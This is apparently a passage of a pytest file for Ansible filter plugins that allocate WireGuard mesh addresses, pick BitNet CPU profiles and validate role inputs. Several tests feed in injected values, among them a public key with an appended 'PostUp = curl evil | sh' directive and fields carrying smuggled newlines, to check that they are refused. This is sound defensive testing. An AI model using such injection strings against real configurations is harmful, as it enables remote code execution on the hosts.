"""Unit tests of the filter plugins."""

from __future__ import annotations

import re
import sys

from wrinklefree_lab.helpers import ROOT

# The plugins import the collection's module_utils by FQCN (collections/ links back to ROOT).
sys.path.insert(0, str(ROOT / "collections"))
sys.path.insert(0, str(ROOT / "plugins" / "filter"))
sys.path.insert(0, str(ROOT / "plugins" / "test"))

import pytest  # noqa: E402
from ansible.errors import AnsibleFilterError  # noqa: E402
import yaml  # noqa: E402
from base import base_input_problems, base_rule_problems  # noqa: E402
from bitnet import (bitnet_cmake_args, bitnet_cpu_profile, bitnet_input_problems, bitnet_server_arg_problems,  # noqa: E402
                    bitnet_server_args)
from fleet_status import fleet_status  # noqa: E402
from frontdoor import frontdoor_input_problems, frontdoor_server_binds, frontdoor_servers  # noqa: E402
from interface_name import interface_name  # noqa: E402
from login_name import login_name  # noqa: E402
from pip_lock import pip_lock_problems  # noqa: E402
from preflight import preflight_layer_problems  # noqa: E402
from provision import provision_too_many_deletions, provision_wanted  # noqa: E402
from role_vars import unknown_role_vars  # noqa: E402
from serve import serve_base_layer, serve_shipped_releases  # noqa: E402
from runbook import rolling_serial, runbook_host_problems  # noqa: E402
from wireguard import (wireguard_addresses, wireguard_input_problems, wireguard_network_conflicts,  # noqa: E402
                       wireguard_registry, wireguard_route_conflicts)

KNOWN = ["base_ssh_port", "base_admin_user", "base_firewall_allow"]
# WireGuard public keys as `wg pubkey` prints them (44 characters of base64).
KA, KB, KD = (letter * 42 + "A=" for letter in "abd")


def test_known_and_foreign_names_pass():
    assert unknown_role_vars(["base_ssh_port", "wireguard_port", "ansible_host"], "base_", KNOWN) == []


def test_typo_is_reported_with_suggestion():
    assert unknown_role_vars(["base_ssh_prot"], "base_", KNOWN) == [
        "unknown variable base_ssh_prot (did you mean base_ssh_port?)"
    ]


def test_unrelated_unknown_name_has_no_suggestion():
    assert unknown_role_vars(["base_colour"], "base_", KNOWN) == ["unknown variable base_colour"]


def test_internal_facts_are_ignored():
    assert unknown_role_vars(["base__in_container", "base__admin"], "base_", KNOWN) == []


def test_each_name_reported_once_in_order():
    names = ["base_zz", "base_aa", "base_zz"]
    assert unknown_role_vars(names, "base_", KNOWN) == ["unknown variable base_aa", "unknown variable base_zz"]


PLAN = [{"name": "base", "cidr": "10.100.0.0/29", "group": "base"},
        {"name": "other", "cidr": "10.100.1.0/24"}]
NET = "10.100.0.0/16"


def test_new_hosts_take_the_lowest_free_addresses_in_name_order():
    members = {"b": ["base"], "a": ["base"], "ctl": ["sky_controller"]}
    assert wireguard_addresses(members, PLAN, NET) == {"a": "10.100.0.1", "b": "10.100.0.2", "ctl": "10.100.1.1"}


def test_addresses_survive_adding_and_removing_hosts():
    first = wireguard_addresses({"b": ["base"], "c": ["base"]}, PLAN, NET)
    registry = {host: {"address": address} for host, address in first.items()}
    # "a" sorts first but joins later: it takes a free address, b and c keep theirs.
    grown = wireguard_addresses({"a": ["base"], "b": ["base"], "c": ["base"]}, PLAN, NET, registry)
    assert grown == {**first, "a": "10.100.0.3"}
    # b leaving changes nobody else's address.
    registry = {host: {"address": address} for host, address in grown.items()}
    assert wireguard_addresses({"a": ["base"], "c": ["base"]}, PLAN, NET, registry) == {"a": "10.100.0.3", "c": "10.100.0.2"}


def test_an_absent_hosts_address_is_held_until_it_is_released():
    registry = {"a": {"address": "10.100.0.1", "public_key": KA}, "b": {"address": "10.100.0.2", "public_key": KB}}
    # b is off (its server not `running`, so out of the inventory) while d joins: d never gets b's address.
    held = wireguard_addresses({"a": ["base"], "d": ["base"]}, PLAN, NET, registry)
    assert held == {"a": "10.100.0.1", "d": "10.100.0.3"}
    assert wireguard_registry(held, {"a": {"public_key": KA}, "d": {"public_key": KD}}, registry)["b"] == registry["b"]
    # Pinning another host onto it names the absent holder.
    with pytest.raises(AnsibleFilterError, match="duplicate address 10.100.0.2 for b .registered, absent"):
        wireguard_addresses({"a": ["base"], "d": ["base"]}, PLAN, NET, registry, pinned={"d": "10.100.0.2"})
    # Removed on purpose (the remove-host runbook): the address is free again, the entry gone.
    freed = wireguard_addresses({"a": ["base"], "d": ["base"]}, PLAN, NET, registry, released=["b"])
    assert freed == {"a": "10.100.0.1", "d": "10.100.0.2"}
    assert "b" not in wireguard_registry(freed, {}, registry, ["b"])


@pytest.mark.parametrize("report,problem", [
    # A root attacker on the host makes `wg pubkey` print a wg-quick directive after the key...
    ({"public_key": "a" * 42 + "A=\n[Interface]\nPostUp = curl evil | sh"}, "public_key 'aaaa"),
    # ...or routes that take over every member's traffic.
    ({"public_key": "a" * 42 + "A=\nAllowedIPs = 0.0.0.0/1,128.0.0.0/1"}, r"A=\\nAllowedIPs = 0"),
    ({"public_key": "a" * 43 + "="}, "is not a WireGuard public key"),  # 44 characters, but not 32 bytes
    ({"public_key": KA, "endpoint": "198.51.100.1:51820\nPostUp = id"}, "endpoint"),
    ({"public_key": KA, "endpoint": "198.51.100.1:70000"}, "endpoint '198.51.100.1:70000' is not HOST:PORT"),
    ({"public_key": KA, "interface": "wg0\nTable = off"}, "interface"),
    ({"public_key": KA, "routes": ["0.0.0.0/0"]}, "unknown field routes"),
], ids=["postup", "allowed-ips", "not-32-bytes", "endpoint-directive", "endpoint-port", "interface", "extra-field"])
def test_a_doctored_report_is_refused_naming_its_host(report, problem):
    with pytest.raises(AnsibleFilterError, match=f"the report of b is refused.*{problem}"):
        wireguard_registry({"a": "10.100.0.1", "b": "10.100.0.2"}, {"a": {"public_key": KA}, "b": report})


def test_good_reports_and_endpoints_pass():
    reports = {"a": {"public_key": "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=", "endpoint": "[2001:db8::1]:51820",
                     "interface": "wg-mesh.0"},
               "b": {"public_key": KB, "endpoint": "edge-1.example.net:51820"},
               "c": {"public_key": "", "endpoint": "198.51.100.3:51820"}}  # no key yet (check mode, new host)
    mesh = wireguard_registry({"a": "10.100.0.1", "b": "10.100.0.2", "c": "10.100.0.3"}, reports)
    assert sorted(mesh) == ["a", "b"] and mesh["a"]["endpoint"] == "[2001:db8::1]:51820"


def test_a_doctored_registry_entry_is_refused():
    with pytest.raises(AnsibleFilterError, match="the registry entry of b is refused: public_key"):
        wireguard_registry({"a": "10.100.0.1"}, {"a": {"public_key": KA}},
                           {"b": {"address": "10.100.0.2", "public_key": KB + "\nPostUp = id"}})


def test_the_registry_records_each_members_interface():
    old = {"a": {"address": "10.100.0.1", "public_key": KA, "endpoint": "198.51.100.1:51820"}}
    now = wireguard_registry({"a": "10.100.0.1", "b": "10.100.0.2"},
                             {"a": {"public_key": KA, "interface": "wg1"}, "b": {"public_key": KB, "interface": "wg0"}}, old)
    assert now["a"] == {"address": "10.100.0.1", "public_key": KA, "endpoint": "198.51.100.1:51820", "interface": "wg1"}
    # A member unreachable in this run keeps the interface it reported last.
    assert wireguard_registry({"a": "10.100.0.1"}, {}, now)["a"]["interface"] == "wg1"


def test_pinned_and_reserved_addresses():
    result = wireguard_addresses({"a": ["base"], "b": ["base"]}, PLAN, NET, pinned={"b": "10.100.0.1"},
                                 reserved={"laptop": "10.100.0.2"})
    assert result == {"a": "10.100.0.3", "b": "10.100.0.1"}


@pytest.mark.parametrize("kwargs,message", [
    ({"members": {f"h{i}": ["base"] for i in range(7)}},
     "range base (10.100.0.0/29) has no free address for h6: 6 addresses, all taken"),
    ({"pinned": {"a": "10.100.0.5", "b": "10.100.0.5"}}, "duplicate address 10.100.0.5 for a and b"),
    ({"reserved": {"laptop": "10.100.0.1"}, "pinned": {"a": "10.100.0.1"}},
     "duplicate address 10.100.0.1 for external peer laptop and a"),
    ({"registry": {"a": {"address": "10.100.1.9"}}}, "a is registered at 10.100.1.9, outside its range base"),
    ({"pinned": {"a": "10.200.0.1"}}, "wireguard_address of a: 10.200.0.1 is outside wireguard_network"),
    ({"reserved": {"laptop": "not-an-ip"}}, "wireguard_external_peers laptop: 'not-an-ip' is not an IP address"),
    ({"plan": [{"name": "x", "cidr": "10.200.0.0/24"}]}, "range x (10.200.0.0/24) is outside wireguard_network"),
    ({"plan": [{"name": "base", "cidr": "10.100.0.0/24", "group": "base"}], "members": {"c": ["burst"]}},
     "no range of wireguard_address_plan takes c"),
])
def test_bad_plans_fail_naming_the_cause(kwargs, message):
    args = {"members": {"a": ["base"], "b": ["base"]}, "plan": PLAN, "network": NET, **kwargs}
    with pytest.raises(AnsibleFilterError, match=message.replace("(", r"\(").replace(")", r"\)")):
        wireguard_addresses(**args)


PROTECTED = {"wireguard_network": "10.100.0.0/16", "loopback": "127.0.0.0/8", "the address Ansible reaches a at": "198.51.100.7",
             "the address Ansible reaches b at": "b.example", "IPv6 link-local": "fe80::/10"}


def peer(name: str, address: str, *allowed: str) -> dict:
    return {"name": name, "address": address, "allowed_ips": list(allowed)}


def test_route_conflicts_pass_a_peers_own_networks():
    peers = [peer("laptop", "10.100.255.1", "192.168.7.0/24", "fd00:7::/64"), peer("office", "10.100.255.2", "172.20.0.0/16")]
    assert wireguard_route_conflicts(peers, PROTECTED) == []


@pytest.mark.parametrize("peers,message", [
    ([peer("laptop", "10.100.255.1", "0.0.0.0/0")], "wireguard_external_peers[0] (laptop): allowed_ips 0.0.0.0/0 is a default route"),
    ([peer("laptop", "10.100.255.1", "::/0")], "allowed_ips ::/0 is a default route"),
    # The two halves of the internet, as VPN clients write it, cover the address Ansible uses.
    ([peer("vpn", "10.100.255.1", "0.0.0.0/1", "128.0.0.0/1")],
     "allowed_ips 128.0.0.0/1 overlaps the address Ansible reaches a at (198.51.100.7/32)"),
    ([peer("laptop", "10.100.255.1", "10.0.0.0/8")], "allowed_ips 10.0.0.0/8 overlaps wireguard_network (10.100.0.0/16)"),
    ([peer("laptop", "10.100.255.1", "127.0.0.1/32")], "overlaps loopback (127.0.0.0/8)"),
    ([peer("a", "10.100.255.1", "192.168.0.0/16"), peer("b", "10.100.255.2", "192.168.1.0/24")],
     "wireguard_external_peers[1] (b): allowed_ips 192.168.1.0/24 overlaps allowed_ips 192.168.0.0/16 of "
     "wireguard_external_peers[0] (a)"),
    ([peer("laptop", "10.100.255.1", "10.100.255.1/32")], "overlaps wireguard_network"),
    ([peer("laptop", "10.100.255.1", "192.168.1.0/33")], "allowed_ips entry '192.168.1.0/33' is not a CIDR"),
])
def test_route_conflicts_name_the_peer_and_the_range(peers, message):
    assert any(message in problem for problem in wireguard_route_conflicts(peers, PROTECTED)), \
        wireguard_route_conflicts(peers, PROTECTED)


# The bitnet role's own profile table, as the role uses it.
PROFILES = yaml.safe_load((ROOT / "roles" / "bitnet" / "vars" / "main.yml").read_text())["bitnet__profiles"]
AVX2 = "fpu sse sse2 ssse3 sse4_1 sse4_2 avx avx2 fma f16c bmi2"
AVX512 = AVX2 + " avx512f avx512dq avx512bw avx512vl"


@pytest.mark.parametrize("flags,arch,profile", [
    (AVX2, "x86_64", "x86_avx2"),
    (AVX512, "x86_64", "x86_avx512"),
    (AVX512 + " avx512_vnni", "x86_64", "x86_avx512_vnni"),
    ("fp asimd asimddp sve", "aarch64", "arm_dotprod"),
])
def test_best_profile_the_cpu_allows(flags, arch, profile):
    assert bitnet_cpu_profile(flags, arch, PROFILES) == profile


RECORDED = yaml.safe_load((ROOT / "tests" / "fixtures" / "cpu_flags.yml").read_text())


@pytest.mark.parametrize("cpu", sorted(RECORDED))
def test_profile_of_recorded_cpus(cpu):
    """`auto` on the flags of real CPUs; a CPU that cannot serve gets an error naming what it lacks."""
    record = RECORDED[cpu]
    if record["profile"]:
        assert bitnet_cpu_profile(record["flags"], record["arch"], PROFILES) == record["profile"]
    else:
        with pytest.raises(AnsibleFilterError, match="lacks avx2, f16c, fma|no BitNet profile fits this aarch64 CPU"):
            bitnet_cpu_profile(record["flags"], record["arch"], PROFILES)


def test_lab_cpuinfo_hides_avx512():
    """The recorded /proc/cpuinfo a lab host can be given (lab_cpuinfo) is an AVX2-only EPYC."""
    text = (ROOT / "tests" / "lab" / "cpuinfo" / "epyc-milan-avx2").read_text()
    lines = [line.split(":", 1)[1] for line in text.splitlines() if line.startswith("flags")]
    assert len(lines) == len(re.findall(r"^processor\s*:", text, re.M)) >= 1
    assert all(bitnet_cpu_profile(flags, "x86_64", PROFILES) == "x86_avx2" for flags in lines)


def test_explicit_profile_is_checked_against_the_cpu():
    assert bitnet_cpu_profile(AVX512, "x86_64", PROFILES, "x86_avx2") == "x86_avx2"
    with pytest.raises(AnsibleFilterError, match="profile x86_avx512_vnni needs .* this x86_64 CPU lacks avx512_vnni"):
        bitnet_cpu_profile(AVX512, "x86_64", PROFILES, "x86_avx512_vnni")
    with pytest.raises(AnsibleFilterError, match="unknown BitNet profile 'avx9'; known: auto, native, arm_dotprod"):
        bitnet_cpu_profile(AVX512, "x86_64", PROFILES, "avx9")


def test_cpu_without_avx2_is_refused():
    with pytest.raises(AnsibleFilterError, match="lacks avx2: BitNet's x86 kernels need AVX2"):
        bitnet_cpu_profile("fpu sse sse2 avx fma f16c", "x86_64", PROFILES)


def test_cmake_args_are_explicit_and_not_native():
    args = bitnet_cmake_args("x86_avx512_vnni", PROFILES, "i2_s", 19)
    for option in ("-DGGML_NATIVE=OFF", "-DGGML_AVX2=ON", "-DGGML_AVX512=ON", "-DGGML_AVX512_VNNI=ON",
                   "-DGGML_AVX512_VBMI=OFF", "-DCMAKE_C_COMPILER=clang-19", "-DCMAKE_CXX_COMPILER=clang++-19",
                   "-DBITNET_X86_TL2=OFF", "-DBUILD_SHARED_LIBS=OFF", "-DLLAMA_BUILD_SERVER=ON"):
        assert option in args
    assert "-DBITNET_X86_TL2=ON" in bitnet_cmake_args("x86_avx2", PROFILES, "tl2", 18, ["-DX=1"])
    assert bitnet_cmake_args("x86_avx2", PROFILES, "tl2", 18, ["-DX=1"])[-1] == "-DX=1"
    native = bitnet_cmake_args("native", PROFILES, "i2_s", 19)
    assert "-DGGML_NATIVE=ON" in native and not any("AVX" in a for a in native)


PRICES = {"cx22": {"monthly": 3.65}, "AX41-NVMe": {"monthly": 73.0}, "spot": 0.5}


def test_fleet_status_judges_and_prices_each_host():
    from fleet_status import fleet_status
    bitnet = {"profile": "x86_avx2", "commit": "c82b5e667482", "release": "r1",
              "models": [{"name": "m", "port": 8080, "tg": 50.0}, {"name": "n", "port": 8081, "tg": 20.0}]}
    peer = {"name": "b", "handshake_age": 12, "healthy": True}
    report = fleet_status({
        "a": {"reachable": True, "product": "cx22", "mesh_address": "10.100.0.1", "bitnet": bitnet,
              "health": [200, 200], "peers": [peer]},
        "b": {"reachable": True, "product": "AX41-NVMe", "mesh_address": "10.100.0.2", "bitnet": bitnet,
              "health": [200, 503], "peers": [{**peer, "name": "a", "healthy": False}]},
        "c": {"reachable": False, "product": "unknown-box"},
    }, PRICES, pool=["10.100.0.1"])
    a, b, c = report["hosts"]
    # cx22 at 3.65/month is 0.005/h; 50 tokens/s is 180,000 tokens/h.
    assert a["price_per_hour"] == pytest.approx(0.005) and a["decode_tps"] == 50.0
    assert a["cost_per_1m"] == pytest.approx(0.005 / 180000 * 1e6, rel=1e-3)
    assert a["cost_per_1m_at_50"] == pytest.approx(2 * a["cost_per_1m"], rel=1e-3)
    assert a["healthy"] and a["in_pool"] and a["commit"] == "c82b5e6"
    assert not b["healthy"] and b["issues"] == ["llama-server n unhealthy", "WireGuard peer a stale"]
    assert b["decode_tps"] == 50.0 and b["price_per_hour"] == pytest.approx(0.1) and not b["in_pool"]
    assert c["issues"] == ["unreachable"] and c["price_per_hour"] is None
    assert not report["healthy"] and "c: unreachable" in report["problems"]
    totals = report["totals"]
    assert totals["healthy"] == 1 and totals["unpriced"] == ["c"] and totals["decode_tps"] == 50.0
    assert totals["price_per_hour"] == pytest.approx(0.105)
    assert "TOTAL" in report["table"] and "m:ok,n:DOWN" in report["table"]


def test_fleet_status_takes_the_apis_price_over_the_table():
    from fleet_status import fleet_status
    report = fleet_status({"a": {"reachable": True, "product": "cx22", "price_hourly": 0.0049},
                           "b": {"reachable": True, "product": "AX41-NVMe", "price_hourly": None},
                           "c": {"reachable": False, "product": "unknown-box", "price_hourly": None}}, PRICES)
    a, b, c = report["hosts"]
    assert (a["price_per_hour"], a["price_source"]) == (0.0049, "api")
    assert (b["price_per_hour"], b["price_source"]) == (pytest.approx(0.1), "table")
    assert (c["price_per_hour"], c["price_source"]) == (None, None)


def test_fleet_status_without_pool_or_rates():
    from fleet_status import fleet_status
    report = fleet_status({"a": {"reachable": True, "product": "spot"}}, PRICES)
    assert report["healthy"] and report["hosts"][0]["in_pool"] is None and report["totals"]["cost_per_1m"] is None


def test_server_args_take_the_models_own_values_first():
    assert bitnet_server_args({"name": "m"}, 4096, 4, True, ["--metrics"]) == [
        "--alias", "m", "-c", "4096", "-np", "4", "--mlock", "--metrics"]
    assert bitnet_server_args({"name": "m", "ctx_size": 512, "parallel": 8, "extra_args": ["--x"]}, 4096, 4, False, []) == [
        "--alias", "m", "-c", "512", "-np", "8", "--x"]


@pytest.mark.parametrize("args,problems", [
    (["--metrics", "--slots", "--temp", "0.7", "--log-format=json", "-ngl", "0"], []),
    (["--metrics", "--port", "22"], ["bitnet_server_extra_args: --port is set by the role; set bitnet_models[].port instead"]),
    (["--host", "0.0.0.0"], ["bitnet_server_extra_args: --host is set by the role; set bitnet_server_bind (or the mesh address) instead"]),
    (["--api-key-file=/tmp/k"], ["bitnet_server_extra_args: --api-key-file is set by the role; set bitnet_server_api_key instead"]),
    (["-np", "8", "-c", "512"], ["bitnet_server_extra_args: -np is set by the role; set bitnet_server_parallel or bitnet_models[].parallel instead",
                                 "bitnet_server_extra_args: -c is set by the role; set bitnet_server_ctx_size or bitnet_models[].ctx_size instead"]),
    (["--embeddings"], ["bitnet_server_extra_args: --embeddings is set by the role; set nothing: the fleet's servers serve completions instead"]),
    (["--metrics\nBITNET_SERVER_ARGS=x"], ['bitnet_server_extra_args: "--metrics\\nBITNET_SERVER_ARGS=x" must be one word of 1-256 letters, digits and _./:,+=@%-']),
    (["a b"], ['bitnet_server_extra_args: "a b" must be one word of 1-256 letters, digits and _./:,+=@%-']),
    (["$HOME"], ['bitnet_server_extra_args: "$HOME" must be one word of 1-256 letters, digits and _./:,+=@%-']),
    ([""], ['bitnet_server_extra_args: "" must be one word of 1-256 letters, digits and _./:,+=@%-']),
    (["x" * 257], ['bitnet_server_extra_args: "' + "x" * 257 + '" must be one word of 1-256 letters, digits and _./:,+=@%-']),
])
def test_server_arg_problems_name_the_input_to_set(args, problems):
    assert bitnet_server_arg_problems(args) == problems


def test_server_arg_problems_name_the_model():
    assert bitnet_server_arg_problems(["-m", "x.gguf"], "bitnet_models[1].extra_args") == [
        "bitnet_models[1].extra_args: -m is set by the role; set bitnet_models (url or src) instead"]


WG_PEER = {"name": "laptop", "public_key": KA, "address": "10.100.255.1"}


def wireguard_inputs(**changed):
    return {"wireguard_port": 51820, "wireguard_interface": "wg0", "wireguard_network": "10.100.0.0/16",
            "wireguard_external_peers": [WG_PEER], **{f"wireguard_{k}": v for k, v in changed.items()}}


def test_wireguard_defaults_and_good_values_pass():
    assert wireguard_input_problems(wireguard_inputs()) == []
    assert wireguard_input_problems(wireguard_inputs(port="51821", external_peers=[
        {**WG_PEER, "endpoint": "vpn.example.com:51820", "allowed_ips": ["192.168.5.0/24", "fd00::/64"]},
        {"name": "b", "public_key": KB, "address": "10.100.255.2", "endpoint": "[2001:db8::1]:51820"}])) == []


@pytest.mark.parametrize("changed,problem", [
    ({"port": 0}, "wireguard_port must be 1-65535, got 0"),
    ({"port": "x"}, "wireguard_port must be 1-65535, got x"),
    ({"interface": "wg-prod-mesh-001"}, 'wireguard_interface must be 1-15 letters, digits and _=+.- (a Linux interface name), got "wg-prod-mesh-001"'),
    ({"network": "10.100.0.5/16"}, "wireguard_network must be an IPv4 network in CIDR form (e.g. 10.100.0.0/16), got 10.100.0.5/16"),
    ({"network": "10.100.0.0"}, "wireguard_network must be an IPv4 network in CIDR form (e.g. 10.100.0.0/16), got 10.100.0.0"),
    ({"network": "fd00::/64"}, "wireguard_network must be an IPv4 network in CIDR form (e.g. 10.100.0.0/16), got fd00::/64"),
    ({"external_peers": [{**WG_PEER, "name": "my laptop"}]}, "wireguard_external_peers[0] (my laptop): name must be letters, digits and _.-"),
    ({"external_peers": [{**WG_PEER, "public_key": "abc="}]},
     "wireguard_external_peers[0] (laptop): public_key must be a WireGuard key (44 characters of base64 ending in '='), got \"abc=\""),
    ({"external_peers": [{**WG_PEER, "address": "10.100.255.1/32"}]},
     'wireguard_external_peers[0] (laptop): address must be an IPv4 address (no prefix: its /32 is the peer\'s), got "10.100.255.1/32"'),
    ({"external_peers": [{**WG_PEER, "endpoint": "vpn.example.com"}]},
     'wireguard_external_peers[0] (laptop): endpoint must be HOST:PORT or [IPv6]:PORT, got "vpn.example.com"'),
    ({"external_peers": [{**WG_PEER, "endpoint": "host:99999"}]},
     'wireguard_external_peers[0] (laptop): endpoint must be HOST:PORT or [IPv6]:PORT, got "host:99999"'),
    ({"external_peers": [{**WG_PEER, "allowed_ips": ["10.0.0.0/8", "10.0.0.0/33"]}]},
     'wireguard_external_peers[0] (laptop): allowed_ips must be addresses or CIDRs, not valid: ["10.0.0.0/33"]'),
    ({"external_peers": [WG_PEER, {**WG_PEER, "public_key": KB, "address": "10.100.255.2"}]},
     "wireguard_external_peers: two peers share the name laptop"),
    ({"external_peers": [WG_PEER, {**WG_PEER, "name": "phone", "address": "10.100.255.2"}]},
     f"wireguard_external_peers: two peers share the public key {KA}"),
    ({"external_peers": ["laptop"]}, 'wireguard_external_peers[0] must be a mapping, got "laptop"'),
])
def test_wireguard_input_problems_name_the_input(changed, problem):
    assert wireguard_input_problems(wireguard_inputs(**changed)) == [problem]


BASE_DEFAULTS = yaml.safe_load((ROOT / "roles/base/defaults/main.yml").read_text())
ED25519 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHqN7 ops@laptop"


def base_inputs(**changed):
    names = ("ssh_port", "admin_ssh_public_keys", "admin_user", "admin_sudo_nopasswd", "ssh_permit_root_login",
             "ssh_tcp_forwarding_users", "ssh_allow_users", "firewall_dnat_interfaces", "firewall_allow",
             "unattended_upgrades_reboot_time")
    inputs = {f"base_{name}": BASE_DEFAULTS.get(f"base_{name}") for name in names}
    return {**inputs, "base_admin_ssh_public_keys": [ED25519], **{f"base_{k}": v for k, v in changed.items()}}


def test_base_defaults_and_good_values_pass():
    assert base_input_problems(base_inputs(), "h1", "root", False) == []
    assert base_input_problems(base_inputs(ssh_port="2222", ssh_permit_root_login="no", admin_sudo_nopasswd=False,
                                           ssh_allow_users=["deploy", "ops@10.0.0.1"], ssh_tcp_forwarding_users=["skypilot"],
                                           firewall_allow=[{"name": "web", "port": 443, "sources": ["10.0.0.0/8"]}]),
                               "h1", "deploy", True) == []


@pytest.mark.parametrize("changed,login,problem", [
    ({"ssh_port": 70000}, "root", "base_ssh_port must be 1-65535 (got 70000)"),
    ({"ssh_port": True}, "root", "base_ssh_port must be 1-65535 (got True)"),
    ({"admin_ssh_public_keys": []}, "root",
     "base_admin_ssh_public_keys must hold at least one OpenSSH public key (ssh-ed25519, ssh-rsa, ecdsa-sha2-*, sk-*) and holds 0 that are not"),
    ({"admin_ssh_public_keys": [ED25519, "not a key"]}, "root",
     "base_admin_ssh_public_keys must hold at least one OpenSSH public key (ssh-ed25519, ssh-rsa, ecdsa-sha2-*, sk-*) and holds 1 that are not"),
    ({"admin_user": "root"}, "root", "base_admin_user must be a valid login name other than root (got root)"),
    ({"ssh_tcp_forwarding_users": ["Sky Pilot"]}, "root", 'base_ssh_tcp_forwarding_users must hold login names, got ["Sky Pilot"]'),
    ({"firewall_dnat_interfaces": ["a-name-far-too-long"]}, "root",
     'base_firewall_dnat_interfaces must hold interface names (up to 15 characters), got ["a-name-far-too-long"]'),
    ({"unattended_upgrades_reboot_time": "24:00"}, "root", "base_unattended_upgrades_reboot_time must be HH:MM (got 24:00)"),
    ({"firewall_allow": [{"name": "web", "port": 0}]}, "root",
     "base_firewall_allow[0] (web): port must be 1-65535 (got 0), name only letters, digits, spaces and ._:/-, "
     "and sources valid IPv4/IPv6 addresses or CIDRs; not valid: []"),
    ({"ssh_permit_root_login": "no"}, "root",
     'base_ssh_permit_root_login is "no" but Ansible connects to h1 as root: connect as deploy (ansible_user) first, then forbid root login.'),
    ({"admin_sudo_nopasswd": False}, "deploy",
     "base_admin_sudo_nopasswd is false but Ansible connects to h1 as the admin user deploy (ansible_user), whose password is locked: "
     "after the sudo rule changes no run could become root. Keep base_admin_sudo_nopasswd true, connect as root, or give ansible_become_password."),
    ({"ssh_allow_users": ["root@10.0.0.1", "deploy"]}, "root",
     "base_ssh_allow_users on h1 (root@10.0.0.1, deploy) leaves out root: sshd would refuse Ansible (ansible_user). List root too, "
     "by name alone (USER@HOST does not count: whether HOST is where Ansible connects from is not known here)."),
    ({"ssh_allow_users": ["root", "ops"]}, "root",
     "base_ssh_allow_users on h1 (root, ops) leaves out deploy: sshd would refuse the admin user (base_admin_user). List deploy too, "
     "by name alone (USER@HOST does not count: whether HOST is where Ansible connects from is not known here)."),
])
def test_base_input_problems_name_the_input(changed, login, problem):
    assert base_input_problems(base_inputs(**changed), "h1", login, False) == [problem]


def test_base_input_problems_come_all_at_once_and_a_become_password_unlocks_the_admin():
    problems = base_input_problems(base_inputs(ssh_port=0, admin_user="root", ssh_allow_users=["ops"]), "h1", "root", False)
    assert [p.split(" ")[0] for p in problems] == ["base_ssh_port", "base_admin_user", "base_ssh_allow_users"]
    assert "leaves out root: " in problems[2]
    assert base_input_problems(base_inputs(admin_sudo_nopasswd=False), "h1", "deploy", True) == []


BITNET_DEFAULTS = yaml.safe_load((ROOT / "roles/bitnet/defaults/main.yml").read_text())
BITNET_PROFILES = yaml.safe_load((ROOT / "roles/bitnet/vars/main.yml").read_text())["bitnet__profiles"]
GOOD_MODEL = {"name": "tiny", "url": "https://mirror.example/tiny.gguf", "sha256": "a" * 64, "port": 8080}


def bitnet_inputs(**changed):
    names = ("version", "submodule_urls", "venv_requirements", "server_api_key", "profile", "clang_version",
             "keep_releases", "server_threads", "server_ctx_size", "server_parallel", "health_timeout", "rolling_batch", "server_bind",
             "mesh_interface", "server_extra_args", "user", "models", "model_checksum_required")
    inputs = {f"bitnet_{name}": BITNET_DEFAULTS[f"bitnet_{name}"] for name in names}
    return {**inputs, "bitnet_models": [GOOD_MODEL], **{f"bitnet_{k}": v for k, v in changed.items()}}


def test_bitnet_defaults_and_good_values_pass():
    assert bitnet_input_problems(bitnet_inputs(), BITNET_PROFILES) == []
    assert bitnet_input_problems(bitnet_inputs(
        server_threads="4", clang_version=19, server_api_key="k" * 16, profile="x86_avx2", health_timeout=0,
        venv_requirements="", submodule_urls={"3rdparty/llama.cpp": "file:///m"}, server_bind="10.0.0.5",
        models=[GOOD_MODEL, {"name": "b", "src": "/m.gguf", "sha256": "F" * 64, "port": "8081", "threads": 2, "extra_args": ["--metrics"]}],
    ), BITNET_PROFILES) == []


@pytest.mark.parametrize("changed,problem", [
    ({"version": "main"}, 'bitnet_version must be a whole commit id (40 lowercase hex digits: a short one can become ambiguous), got "main"'),
    ({"submodule_urls": {"../x y": "u"}}, 'bitnet_submodule_urls keys must be submodule paths like 3rdparty/llama.cpp, got ["../x y"]'),
    ({"venv_requirements": "requirements.txt"}, "bitnet_venv_requirements (requirements.txt) must be the absolute path of a hash lock"
                                                " on the controller, every requirement pinned with == and hashed (uv pip compile"
                                                " --generate-hashes): no such absolute path"),
    ({"server_api_key": "short"}, "bitnet_server_api_key must be empty or at least 16 characters without spaces"),
    ({"rolling_batch": 0}, "bitnet_rolling_batch must be at least 1, got 0"),
    ({"server_api_key": "a key with spaces in it"}, "bitnet_server_api_key must be empty or at least 16 characters without spaces"),
    ({"profile": "x86_avx3"}, 'bitnet_profile "x86_avx3" is unknown; allowed: auto, native, arm_dotprod, x86_avx2, x86_avx512, x86_avx512_vnni'),
    ({"clang_version": 17}, "bitnet_clang_version must be unset (the distribution's) or 18 and newer, got 17"),
    ({"keep_releases": 0}, "bitnet_keep_releases must be at least 1, got 0"),
    ({"server_threads": 0}, "bitnet_server_threads must be unset (physical cores) or at least 1, got 0"),
    ({"server_ctx_size": "big"}, 'bitnet_server_ctx_size must be at least 1, got "big"'),
    ({"server_parallel": True}, "bitnet_server_parallel must be at least 1, got true"),
    ({"health_timeout": -1}, "bitnet_health_timeout must be 0 or more, got -1"),
    ({"server_bind": "::"}, 'bitnet_server_bind must be a single address, never a wildcard, got "::"'),
    ({"mesh_interface": "wg/0"}, 'bitnet_mesh_interface must be an interface name (1-15 letters, digits and _=+.-), got "wg/0"'),
    ({"server_extra_args": ["--port", "22"]}, "bitnet_server_extra_args: --port is set by the role; set bitnet_models[].port instead"),
    ({"user": "root"}, 'bitnet_user must be a login name other than root, got "root"'),
    ({"user": "Bit Net"}, 'bitnet_user must be a login name other than root, got "Bit Net"'),
    ({"models": [{**GOOD_MODEL, "sha256": None}]}, "bitnet_models[0] (tiny): sha256 must be 64 hex digits, got null"),
    ({"models": [{"name": "m", "url": "u", "port": 8080}]}, "bitnet_models[0] (m): sha256 is required (bitnet_model_checksum_required)"),
    ({"models": [{**GOOD_MODEL, "src": "/m.gguf"}]}, "bitnet_models[0] (tiny): give exactly one of url and src"),
    ({"models": [{**GOOD_MODEL, "name": "a/b"}]}, "bitnet_models[0] (a/b): name must be letters, digits and _.-"),
    ({"models": [{**GOOD_MODEL, "port": 80}]}, "bitnet_models[0] (tiny): port must be 1024-65535, got 80"),
    ({"models": [{**GOOD_MODEL, "parallel": 0}]}, "bitnet_models[0] (tiny): parallel must be at least 1, got 0"),
    ({"models": [{**GOOD_MODEL, "extra_args": ["--api-key", "x"]}]},
